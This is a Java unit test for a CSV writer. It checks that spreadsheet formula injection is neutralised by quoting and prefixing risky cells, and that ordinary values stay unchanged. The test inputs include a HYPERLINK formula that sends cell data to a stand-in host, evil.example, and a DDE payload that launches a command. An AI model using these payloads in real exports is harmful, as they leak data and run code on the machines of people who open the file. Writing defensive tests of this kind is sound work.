package cn.gov.qinghai.kit.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;

class CsvWriterTest {

    @Test
    void formulasAreMadeInert() {
        assertEquals(
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"pay\"\")\"",
                CsvWriter.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"pay\")"));
        assertEquals("\"'+1+1\"", CsvWriter.cell("+1+1"));
        assertEquals("\"'-2+3+cmd|' /C calc'!A0\"", CsvWriter.cell("-2+3+cmd|' /C calc'!A0"));
        assertEquals("\"'@SUM(A1:A9)\"", CsvWriter.cell("@SUM(A1:A9)"));
        assertEquals("\"'\t=1\"", CsvWriter.cell("\t=1"));
        assertEquals("\"'\r=1\"", CsvWriter.cell("\r=1"));
    }

    @Test
    void ordinaryTextAndNumbersStayAsTheyAre() {
        assertEquals("E001", CsvWriter.cell("E001"));
        assertEquals("-0.2500", CsvWriter.cell("-0.2500"), "a negative number is not a formula");
        assertEquals("1500.00", CsvWriter.cell("1500.00"));
        assertEquals("a=b", CsvWriter.cell("a=b"), "only the first character triggers");
        assertEquals("\"a,b\"", CsvWriter.cell("a,b"));
        assertEquals("", CsvWriter.cell(null));
        assertEquals("1,\"'=1\",x\r\n", CsvWriter.row("1", "=1", "x"));
    }
}
